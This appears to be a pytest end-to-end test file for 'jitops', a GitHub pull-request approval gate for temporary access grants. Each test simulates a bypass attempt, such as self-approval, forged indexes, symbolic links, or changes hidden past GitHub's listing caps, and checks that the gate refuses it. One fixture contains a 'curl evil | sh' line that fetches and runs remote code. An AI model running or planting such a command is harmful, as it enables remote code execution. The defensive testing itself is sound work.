"""The approval gate end to end: real HTTP from PyGithub to the GitHub test server, real git,
and the real CLI. Each attack on the gate is its own test."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from jitops import git, ids
from jitops.testing.github import GitHubServer
from tests.e2e.conftest import CLI, Run
from tests.e2e.gate_world import GateWorld, make_world


@pytest.fixture
def world(github_server: GitHubServer, github_names: str, tmp_path: Path) -> GateWorld:
    return make_world(github_server, github_names, tmp_path)


@pytest.fixture
def check(world: GateWorld, cli: CLI, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    for name, value in world.env().items():
        monkeypatch.setenv(name, value)

    def run(number: int, *extra: str) -> Run:
        return cli(
            "check-pr", "--pr", str(number), "--post", "--base-checkout", str(world.base), *extra
        )

    return run


def status_of(world: GateWorld, number: int) -> tuple[str, str]:
    hub = world.server.hub
    pr = hub.pull(world.repo, number)
    statuses = [
        s for s in hub.statuses_for(world.repo, pr.head_sha) if s.context == "jitops/approval"
    ]
    assert statuses, "no jitops/approval status was posted"
    return statuses[0].state, statuses[0].description or ""  # newest first


def comments_of(world: GateWorld, number: int) -> list[str]:
    return [c.body for c in world.server.hub.comments_of(world.repo, number)]


def test_the_approval_lifecycle(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("rw-1")
    first = check(number)
    assert first.code == 1
    assert status_of(world, number)[0] == "pending"
    assert f"needs 1 approval from {world.team('db-leads')}" in status_of(world, number)[1]

    world.review(number, "eve")  # an engineer, not a db lead
    assert check(number).code == 1
    assert (
        f"@{world.login('eve')} is not one of {world.team('db-leads')}"
        in comments_of(world, number)[0]
    )

    world.review(number, "bob")  # a db lead
    assert check(number).code == 0
    assert status_of(world, number)[0] == "success"

    world.push(
        number,
        {
            "requests/sandbox-db/readwrite/rw-1.yaml": world.request_text(
                "rw-1", window="duration: 3h"
            )
        },
    )
    stale = check(number)
    assert stale.code == 1
    assert "approved an older commit" in stale.out
    assert status_of(world, number)[0] == "pending"

    world.review(number, "bob")
    assert check(number).code == 0
    assert status_of(world, number)[0] == "success"
    # one comment, kept up to date, rendering the request plainly
    [comment] = comments_of(world, number)
    assert "### jitops: ✅ ready to merge" in comment
    assert f"| who | @{world.login('alice')} |" in comment
    assert "| what | `readwrite` on `sandbox-db` |" in comment
    assert "| until | 3h from merge |" in comment
    assert "| policy | sandbox-db |" in comment


def test_under_actions_the_event_names_the_pull_request(
    world: GateWorld, cli: CLI, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    number = world.open_request("ev-1", role="readonly", ticket=None)
    event = world.server.last_event("pull_request", "opened")
    for name, value in event.actions_env(tmp_path / "event.json", world.bot.token).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("GITHUB_API_URL", world.server.base_url)
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    result = cli("check-pr", "--base-checkout", str(world.base))
    assert result.code == 0, result.output
    assert status_of(world, number) == ("success", "1 of 1 request(s) ready")
    assert "auto-approved" in summary.read_text()


@pytest.mark.attack(2, "approve one's own request through a second account")
def test_requester_cannot_approve_through_a_second_account_of_a_committer(
    world: GateWorld, check
) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("co-1")
    # bob pushes a commit to alice's branch, then approves: an author of the PR may not approve
    world.push(
        number,
        {
            "requests/sandbox-db/readwrite/co-1.yaml": world.request_text(
                "co-1", window="duration: 1h"
            )
        },
        by="bob",
    )
    world.review(number, "bob")
    result = check(number)
    assert result.code == 1
    assert "authored or committed to this pull request" in result.out


def test_requesting_for_someone_else(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    by_mallory = world.open_request("for-1", by="mallory")  # requester alice, opened by mallory
    world.review(by_mallory, "bob")
    assert check(by_mallory).code == 1
    assert "opened a request for" in status_of(world, by_mallory)[1]
    by_oncall = world.open_request("for-2", by="olivia")  # the on-call team may
    world.review(by_oncall, "bob")
    assert check(by_oncall).code == 0


@pytest.mark.attack(2, "count an approval a later change request outweighs")
def test_a_later_change_request_outweighs_the_approval(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("cr-1")
    world.review(number, "bob")
    world.review(number, "bob", "REQUEST_CHANGES")
    assert check(number).code == 1
    assert "requested changes" in status_of(world, number)[1]
    world.review(number, "bob", "COMMENT", body="looks fine now")  # a comment decides nothing
    assert check(number).code == 1


@pytest.mark.attack(2, "count a dismissed approval")
def test_a_dismissed_approval_does_not_count(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("dm-1")
    review_id = world.review(number, "bob")
    world.server.hub.dismiss_review(
        world.repo, number, review_id, user=world.login("p1"), message="no"
    )
    assert check(number).code == 1


@pytest.mark.attack(2, "approve as a pending team invitee")
def test_a_pending_team_invitation_is_not_membership(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    hub = world.server.hub
    hub.set_membership(world.org, "db-leads", world.login("carol"), state="pending")
    number = world.open_request("inv-1")
    world.review(number, "carol")
    assert check(number).code == 1


@pytest.mark.attack(2, "approve admin access alone")
def test_admin_needs_two_people(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("adm-1", role="admin", window="duration: 1h", ticket="INC-77")
    world.review(number, "dave")  # in both db-leads and security
    assert check(number).code == 1
    assert f"needs 1 approval from {world.team('security')}" in status_of(world, number)[1]
    world.review(number, "erin")
    assert check(number).code == 0


def test_removal_only_passes_at_once_whoever_opens_it(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("rm-1", role="readonly", ticket=None)
    assert check(number).code == 0
    world.merge(number)
    removal = world.open_pull(
        "remove-rm-1", {"requests/sandbox-db/readonly/rm-1.yaml": None}, by="mallory"
    )
    result = check(removal)
    assert result.code == 0, result.output
    assert "no approval needed" in status_of(world, removal)[1]


@pytest.mark.attack(1, "carry a request inside a policy change")
def test_a_mixed_pull_request_is_refused(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request(
        "mix-1", extra={"policies/sandbox-db.yaml": "apiVersion: jitops/v1\n"}
    )
    for person in ("bob", "p1", "p2"):
        world.review(number, person)
    result = check(number)
    assert result.code == 1
    assert "may not carry access requests" in status_of(world, number)[1]


@pytest.mark.attack(1, "loosen the policy in the same pull request that asks")
def test_a_policy_change_in_the_pr_does_not_judge_the_pr(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    # The PR loosens the policy (auto-approve readwrite) and asks nothing else: it is judged by
    # the base branch's PolicyChangeRule, which needs two platform approvals.
    policy = (world.base / "policies" / "sandbox-db.yaml").read_text()
    loosened = policy.replace(
        "readwrite:\n    max_duration: 4h",
        "readwrite:\n    max_duration: 4h\n    auto_approve: true",
    )
    number = world.open_pull("loosen", {"policies/sandbox-db.yaml": loosened}, by="alice")
    world.review(number, "p1")
    assert check(number).code == 1
    assert f"needs 1 more approval from {world.team('platform')}" in status_of(world, number)[1]
    world.review(number, "p2")
    assert check(number).code == 0


def land_and_remove(world: GateWorld, request_id: str) -> None:
    """A readonly (auto-approved) request merges, then a removal takes it off the branch."""
    number = world.open_request(request_id, role="readonly", ticket=None)
    world.merge(number)
    path = f"requests/sandbox-db/readonly/{request_id}.yaml"
    world.merge(world.open_pull(f"drop-{request_id}", {path: None}))


def publish_index(world: GateWorld, cli: CLI) -> str:
    """``jitops index --push`` from a checkout of its own, as apply does in its workflow."""
    checkout = world.work / "apply-checkout"
    if not checkout.exists():
        url = world.server.file_url(world.repo.full_name)
        subprocess.run(["git", "clone", "-q", url, str(checkout)], check=True)
    subprocess.run(["git", "-C", str(checkout), "pull", "-q", "--ff-only"], check=True)
    result = cli("index", "--repo", str(checkout), "--push")
    assert result.code == 0, result.output
    return result.out


def replay(world: GateWorld, check, request_id: str) -> tuple[int, Run]:  # type: ignore[no-untyped-def]
    """Open a pull request that adds ``request_id`` again, and check it."""
    number = world.open_request(
        request_id,
        role="readonly",
        ticket=None,
        branch=f"replay-{request_id}-{len(world.server.hub.state.pulls_of(world.repo.id))}",
    )
    return number, check(number)


@pytest.mark.attack(3, "replay a landed request id")
def test_replaying_a_landed_request_id_is_refused(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    land_and_remove(world, "old-1")
    number, result = replay(world, check, "old-1")
    assert result.code == 1
    assert "already used on the base branch" in result.out
    # no index on the remote: the whole history was searched, and the check says so
    assert "jitops: note: there is no request-id index" in result.err
    [comment] = comments_of(world, number)
    assert "**Note:** there is no request-id index" in comment
    assert "searched the whole history instead (exact, slower)" in comment


def test_replaying_is_refused_through_the_index_and_after_it_moves_on(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
    cli: CLI,
) -> None:
    land_and_remove(world, "idx-1")
    assert "rebuilt from the whole history" in publish_index(world, cli)
    covered = git.resolve(world.base, "HEAD")
    assert git.resolve(world.base, ids.INDEX_REF) is None
    land_and_remove(world, "idx-2")  # after the index: found by walking covered..base
    for request_id in ("idx-1", "idx-2"):
        _, result = replay(world, check, request_id)
        assert result.code == 1, result.output
        assert "already used on the base branch" in result.out
        assert "note:" not in result.err  # the index was used, so nothing to say
    # The workflow's checkout has no index of its own: check-pr fetched the remote's.
    assert ids.load(world.base).index == ids.IdIndex(covered or "", ("idx-1",))

    land_and_remove(world, "idx-3")
    assert "extended over" in publish_index(world, cli)  # as apply does after a merge
    for request_id in ("idx-1", "idx-2", "idx-3"):
        _, result = replay(world, check, request_id)
        assert result.code == 1 and "note:" not in result.err
    fresh = world.open_request("idx-4", role="readonly", ticket=None)
    assert check(fresh).code == 0  # a new id passes


@pytest.mark.attack(8, "forge the request-id index to hide a replay")
def test_a_forged_index_can_hide_an_id_from_the_gate_and_audit_verify_finds_it(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
    cli: CLI,
) -> None:
    """The residual risk, attacked: anyone with push access can write refs/jitops/ids. An index
    that leaves out a used id gets a replay past the gate's fast check — which is why apply
    judges ids against the whole history before it grants (tests/e2e/test_apply.py), and why
    audit verify compares the index with history."""
    land_and_remove(world, "forged-1")
    head = git.resolve(world.base, "HEAD") or ""
    git.write_file_commit(
        world.base, ids.INDEX_REF, ids.INDEX_FILE, ids.encode(ids.IdIndex(head, ())), "x\n"
    )
    git.push_ref(world.base, ids.INDEX_REF)
    _, fooled = replay(world, check, "forged-1")
    assert "already used" not in fooled.out  # the fast check believed the index
    audit = cli("audit", "--repo", str(world.base), "verify")
    assert audit.code == 1
    assert "refs/jitops/ids: denied: hides 1 request id(s) used in the history of" in audit.out
    assert "forged-1" in audit.out
    assert cli("index", "--repo", str(world.base), "--check").code == 1
    assert cli("index", "--repo", str(world.base), "--rebuild", "--push").code == 0
    assert cli("index", "--repo", str(world.base), "--check").code == 0
    _, refused = replay(world, check, "forged-1")
    assert refused.code == 1 and "already used on the base branch" in refused.out


@pytest.mark.attack(3, "point the request-id index at another history")
def test_an_index_outside_the_base_history_is_not_trusted(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    land_and_remove(world, "rw-old-1")
    # An index covering a commit of some other branch, claiming nothing was ever used there.
    other = world.server.hub.push(
        world.repo, "elsewhere", {"README.md": "x\n"}, author=world.login("mallory")
    )
    git.fetch_commit(world.base, other)
    git.write_file_commit(
        world.base, ids.INDEX_REF, ids.INDEX_FILE, ids.encode(ids.IdIndex(other, ())), "x\n"
    )
    git.push_ref(world.base, ids.INDEX_REF)
    _, result = replay(world, check, "rw-old-1")
    assert result.code == 1
    assert "already used on the base branch" in result.out
    assert "not in the base branch's history" in result.err


@pytest.mark.attack(6, "a malformed request file")
def test_malformed_request_file_is_refused_with_its_line(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    path = "requests/sandbox-db/readonly/bad-1.yaml"
    number = world.open_pull("bad", {path: "apiVersion: jitops/v1\nkind: AccessRequest\nkind: x\n"})
    result = check(number)
    assert result.code == 1
    assert f"{path}:3:1: error: duplicate key" in result.out
    assert f"::error file={path},line=3,col=1" not in result.out  # annotations only in Actions


@pytest.mark.attack(1, "break CODEOWNERS so GitHub asks no code owner")
def test_codeowners_errors_fail_closed(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    hub = world.server.hub
    hub.push(
        world.repo,
        "main",
        {".github/CODEOWNERS": "* @nobody-at-all/missing-team\n"},
        author=world.login("p1"),
    )
    number = world.open_request("co-err-1", role="readonly", ticket=None)
    result = check(number)
    assert result.code == 1
    assert "CODEOWNERS errors" in result.out


def test_read_only_from_a_laptop_unless_post(
    world: GateWorld, cli: CLI, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in world.env().items():
        monkeypatch.setenv(name, value)
    number = world.open_request("ro-1")
    result = cli(
        "check-pr",
        "--repo",
        world.repo.full_name,
        "--pr",
        str(number),
        "--base-checkout",
        str(world.base),
    )
    assert result.code == 1
    assert f"#{number}: pending" in result.out
    pr = world.server.hub.pull(world.repo, number)
    assert world.server.hub.statuses_for(world.repo, pr.head_sha) == []
    assert comments_of(world, number) == []


def test_api_budget_per_check_of_five_requests(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    files: dict[str, str | None] = {
        f"requests/sandbox-db/readwrite/b5-{i}.yaml": world.request_text(f"b5-{i}")
        for i in range(5)
    }
    number = world.open_pull("five", files)
    world.review(number, "bob")
    world.server.calls.reset()
    assert check(number).code == 0
    calls = world.server.calls.snapshot()
    reads = {k: v for k, v in calls.items() if k.startswith("GET")}
    assert sum(reads.values()) <= 8, reads  # files come through git, memberships are cached
    assert not any("/contents/" in k for k in calls)
    assert sum(calls.values()) - sum(reads.values()) == 2  # the status and the comment


def test_request_files_come_through_the_api_when_git_cannot_fetch(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("nofetch-1")
    world.review(number, "bob")
    subprocess.run(
        ["git", "-C", str(world.base), "remote", "set-url", "origin", "/nonexistent/repo.git"],
        check=True,
    )
    world.server.calls.reset()
    assert check(number).code == 0
    assert world.server.calls["GET /repos/{owner}/{repo}/contents/{path}"] == 1


@pytest.mark.attack(5, "make the API unreachable mid-check")
def test_an_unreachable_api_fails_closed(world: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = world.open_request("down-1")
    world.review(number, "bob")
    world.server.faults.inject(
        "server_error", "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews", times=20
    )
    try:
        result = check(number)
    finally:
        world.server.faults.clear()
    assert result.code == 3
    assert "GitHub reviews of pull request" in result.err
    pr = world.server.hub.pull(world.repo, number)
    approvals = [
        s for s in world.server.hub.statuses_for(world.repo, pr.head_sha) if s.state == "success"
    ]
    assert approvals == []  # never a yes


@pytest.mark.attack(1, "hide a policy change past GitHub's 3,000-file list")
def test_a_policy_change_hidden_past_githubs_3000_files_is_refused(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """Attack (invariant 1, policy changes need the PolicyChangeRule): GitHub lists at most
    3,000 files of a pull request. 3,000 removals of request files come first, a change to a
    workflow sorts after them and is never listed: the pull request would read as "only
    removals" and pass at once. It is refused, saying why; 2,999 removals still pass."""
    from jitops.github import MAX_LISTED_FILES

    stale = {f"requests/old/r/old-{i:04}.yaml": "x: 1\n" for i in range(MAX_LISTED_FILES)}
    world.server.hub.push(world.repo, "main", stale, author=world.login("p1"))
    world.refresh_base()
    gone: dict[str, str | None] = dict.fromkeys(stale)
    hidden = world.open_pull(
        "cleanup", {**gone, "zz-hooks/run.sh": "curl evil | sh\n"}, by="mallory"
    )
    result = check(hidden)
    assert result.code == 1
    state, description = status_of(world, hidden)
    assert state == "failure" and "at most 3,000 files" in description
    assert "split it" in comments_of(world, hidden)[0]
    fewer = world.open_pull("fewer", dict.fromkeys(list(stale)[1:]), by="mallory")
    assert check(fewer).code == 0  # 2,999 removals, all listed


@pytest.mark.attack(2, "hide an approver's commit past GitHub's 250-commit list")
def test_a_commit_hidden_past_githubs_250_commits_is_refused(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """Attack (no self-approval): GitHub lists at most 250 commits of a pull request, so an
    approver's own commit placed after them would not be seen and their approval would count.
    A pull request that reaches the cap is refused, saying why; below it the approver's own
    commit is seen and refused as self-approval."""
    from jitops.github import MAX_LISTED_COMMITS
    from jitops.testing.github.gitstore import TreeChange

    hub = world.server.hub
    path = "requests/sandbox-db/readwrite/long-1.yaml"
    text = world.request_text("long-1", role="readwrite")

    def open_with(commits: int, branch: str) -> int:
        number = world.open_pull(branch, {path: text})
        store, ref = hub.git(world.repo), f"refs/heads/{branch}"
        before = tip = store.branch_sha(branch)
        assert tip is not None
        # the first commit opened it; bob's is the last: written as one push, as git would
        for step in range(commits - 1):
            last = step == commits - 2
            content = (text if last else f"{text}# {step}\n").encode()
            tree = store.write_tree([TreeChange(path, content)], store.commit(tip).tree)
            who = hub.identity(world.login("bob" if last else "alice"))
            tip = store.commit_tree(tree, [tip], f"step {step}\n", who)
        store.update_ref(ref, tip, before)
        hub.refs_changed(world.repo, world.login("alice"), [(ref, before, tip)])
        world.review(number, "bob")
        return number

    capped = open_with(MAX_LISTED_COMMITS, "long")
    assert check(capped).code == 1
    assert "at most 250 commits" in status_of(world, capped)[1]
    hub.update_pull(world.repo, capped, sender=world.login("alice"), state="closed")
    seen = open_with(3, "short")
    assert check(seen).code == 1
    assert "at most 250 commits" not in status_of(world, seen)[1]
    assert f"@{world.login('bob')}" in comments_of(world, seen)[0]


@pytest.mark.attack(2, "approve one's own request written in another case")
def test_a_login_written_in_another_case_is_the_same_person(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """GitHub logins are case-insensitive: a request whose requester is written ``ALICE-…``
    by alice is alice's (allowed through her team, approved by a lead), and the same request
    opened by on-call for ``DAVE-…`` cannot be approved by dave himself."""
    path = "requests/sandbox-db/readwrite/{}.yaml"
    shouted = world.request_text("case-1").replace(
        world.login("alice"), world.login("alice").upper()
    )
    own = world.open_pull("case-1", {path.format("case-1"): shouted})
    world.review(own, "bob")
    assert check(own).code == 0
    for_dave = world.request_text("case-2").replace(
        world.login("alice"), world.login("dave").upper()
    )
    other = world.open_pull("case-2", {path.format("case-2"): for_dave}, by="olivia")
    world.review(other, "dave")  # a db lead, but the requester
    assert check(other).code == 1
    assert "cannot approve their own request" in comments_of(world, other)[0]
    world.review(other, "bob")
    assert check(other).code == 0


def _push_entry(world: GateWorld, branch: str, path: str, content: bytes, mode: str) -> None:
    """Push one file with any git mode (a link, a submodule) as alice: what git allows."""
    from jitops.testing.github.gitstore import TreeChange

    hub = world.server.hub
    store, ref = hub.git(world.repo), f"refs/heads/{branch}"
    before = store.branch_sha(branch)
    parent = before or store.branch_sha("main")
    assert parent is not None
    tree = store.write_tree([TreeChange(path, content, mode)], store.commit(parent).tree)
    sha = store.commit_tree(tree, [parent], "add\n", hub.identity(world.login("alice")))
    store.update_ref(ref, sha, before or "0" * 40)
    hub.refs_changed(world.repo, world.login("alice"), [(ref, before or "0" * 40, sha)])


@pytest.mark.attack(3, "a symbolic link whose link text reads as a request")
def test_a_link_whose_text_reads_as_a_request_is_no_request(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """Attack (one definition of a request file): a symbolic link whose link text is a valid
    auto-approvable request. validate refuses it and apply and the ledger skip it, so the
    check must not pass it either: it is refused, naming it; the same bytes as a regular file
    pass (control)."""
    path = "requests/sandbox-db/readonly/link-1.yaml"
    text = world.request_text("link-1", role="readonly").encode()
    _push_entry(world, "link", path, text, "120000")
    number = world.server.hub.open_pull(
        world.repo, head="link", title="link", user=world.login("alice")
    ).number
    assert check(number).code == 1
    state, description = status_of(world, number)
    assert state == "failure" and "is a symbolic link" in description
    _push_entry(world, "plain", path, text, "100644")
    plain = world.server.hub.open_pull(
        world.repo, head="plain", title="plain", user=world.login("alice")
    ).number
    assert check(plain).code == 0


@pytest.mark.attack(3, "a request the ledger would skip (.json, .txt)")
def test_a_request_file_of_another_name_is_refused(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """A ``.json`` or ``.txt`` file under requests/ is skipped by the ledger, so it would
    grant nothing while the check said "approved": it is refused with the fix. A placeholder
    nobody reads (``.gitkeep``) is neither a request nor a policy change."""
    text = world.request_text("json-1", role="readonly")
    for suffix in (".json", ".txt"):
        path = f"requests/sandbox-db/readonly/json-1{suffix}"
        number = world.open_pull(f"odd{suffix}", {path: text})
        assert check(number).code == 1
        assert "does not end in .yaml or .yml" in status_of(world, number)[1]
    keep = world.open_pull("keep", {"requests/sandbox-db/.gitkeep": ""}, by="mallory")
    assert check(keep).code == 0


def test_a_pull_request_github_does_not_know_is_an_input_error(
    world: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """A wrong --pr (or an event about something else) says so and exits 2: no "internal
    error", no traceback, no status posted anywhere."""
    result = check(99999)
    assert result.code == 2
    assert "pull request #99999" in result.out + result.err
    assert "was not found" in result.out + result.err
    assert "internal error" not in result.out + result.err


def test_github_out_of_reach_is_named_and_exits_3(
    world: GateWorld,
    cli: CLI,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No answer at all names the host and what to check, exit 3 — the check, and apply."""
    for name, value in world.env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("GITHUB_API_URL", "http://127.0.0.1:9/api/v3")  # nothing listens
    number = world.open_request("away-1")
    for args in (
        ("check-pr", "--pr", str(number), "--base-checkout", str(world.base)),
        ("apply", "--repo", str(world.base), "--catch-up"),
    ):
        result = cli(*args)
        said = result.out + result.err
        assert result.code == 3, said
        assert "no answer from 127.0.0.1:9" in said and "GITHUB_API_URL" in said
        assert "internal error" not in said and "Traceback" not in said
